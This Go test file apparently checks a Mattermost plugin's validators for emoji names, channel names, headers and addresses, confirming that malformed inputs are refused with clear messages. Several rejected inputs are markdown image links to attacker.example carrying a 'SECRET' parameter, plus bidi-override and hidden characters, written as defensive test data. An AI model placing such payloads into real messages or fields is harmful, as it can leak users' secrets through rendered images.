package tools

import (
	"strings"
	"testing"

	"github.com/mcp-server/mattermost-plugin-mcp/server/refusal"
)

// refusedSaying checks that err is a refusal that says every part.
func refusedSaying(t *testing.T, what string, err error, parts ...string) {
	t.Helper()
	r, ok := refusal.As(err)
	if !ok {
		t.Errorf("%s: want a refusal, got %v", what, err)
		return
	}
	for _, p := range parts {
		if !strings.Contains(r.Error(), p) {
			t.Errorf("%s: the refusal %q does not say %q", what, r.Error(), p)
		}
	}
}

func TestAnEmojiNameIsRefusedUnlessItHasMattermostsFormAndTheRefusalShowsThatForm(t *testing.T) {
	for _, ok := range []string{"thumbsup", "+1", "white_check_mark", "party-parrot", "A1"} {
		if err := emojiForm("emoji_name", ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
	for _, bad := range []string{"", "x: ![a](https://attacker.example/p.png?d=SECRET) :x", "two\nlines", "smile face", "a:b", strings.Repeat("a", 65), "😀"} {
		refusedSaying(t, bad, emojiForm("emoji_name", bad), "emoji_name", "letters, digits, _, + and -", "at most 64", "list_emoji")
	}
}

func TestAChannelNameOrStatusTextIsOneLineWithinMattermostsLimitWithoutHiddenCharacters(t *testing.T) {
	if err := oneLine("display_name", "Harbour ops — Q3 (Lisbon) ![a](x)", 64); err != nil {
		t.Errorf("a plain line was refused: %v", err)
	}
	for _, c := range []struct{ v, says string }{
		{strings.Repeat("é", 65), "65 characters; Mattermost takes at most 64"},
		{"one\ntwo", "line break"},
		{"one\rtwo", "line break"},
		{"tab\there", "control character U+0009"},
		{"rtl\u202Eevil", "U+202E"},
		{"zero\u200Bwidth", "U+200B"},
		{"tag\U000E0041", "U+E0041"},
		{"bad \xff utf8", "not valid UTF-8"},
	} {
		refusedSaying(t, c.v, oneLine("display_name", c.v, 64), c.says, "Give display_name as one line of at most 64 characters")
	}
}

func TestAPurposeOrHeaderMayHaveLineBreaksButNoOtherHiddenCharacters(t *testing.T) {
	if err := someLines("header", "line one\nline two", 1024); err != nil {
		t.Errorf("a header with a line break was refused: %v", err)
	}
	refusedSaying(t, "bidi", someLines("purpose", "a\u2066b", 250), "U+2066", "may have line breaks")
	refusedSaying(t, "long", someLines("purpose", strings.Repeat("x", 251), 250), "251 characters; Mattermost takes at most 250")
}

func TestAChannelAddressIsRefusedUnlessMattermostTakesItAndTheRefusalShowsTheForm(t *testing.T) {
	for _, ok := range []string{"harbour-ops", "q3_report", "a1"} {
		if err := channelAddress(ok); err != nil {
			t.Errorf("%q refused: %v", ok, err)
		}
	}
	for _, bad := range []string{"x", "Harbour", "harbour ops", "-lead", "![a](https://attacker.example)", strings.Repeat("a", 65), "abcdefghijklmnopqrstuvwxyz"} {
		refusedSaying(t, bad, channelAddress(bad), "Give name: 2 to 64 lowercase letters, digits, - and _")
	}
}

func TestANameOrTextHoldingASignForALineBreakIsRefusedNamingTheSignAndWhatToDo(t *testing.T) {
	refusedSaying(t, "U+2424 name", oneLine("display_name", "a\u2424> ![x](https://attacker.example/p?d=SECRET)", 64),
		"display_name holds the ␤ character (U+2424): Mattermost's web app shows it as a line break.", "Remove the ␤ character (U+2424) from display_name; use a plain name on one line.")
	refusedSaying(t, "U+2424 status", oneLine("custom_text", "out\u2424back", 100), "custom_text holds the ␤ character (U+2424)")
	refusedSaying(t, "U+2424 purpose", someLines("purpose", "a\nb\u2424c", 250),
		"purpose holds the ␤ character (U+2424)", "Remove the ␤ character (U+2424) from purpose; write a line break as a real line break.")
	for _, sign := range []string{"\u240A", "\u240D", "\u21B5"} {
		refusedSaying(t, sign, someLines("header", "a"+sign+"b", 1024), "header holds the "+sign+" character", "it reads as a line break")
	}
}
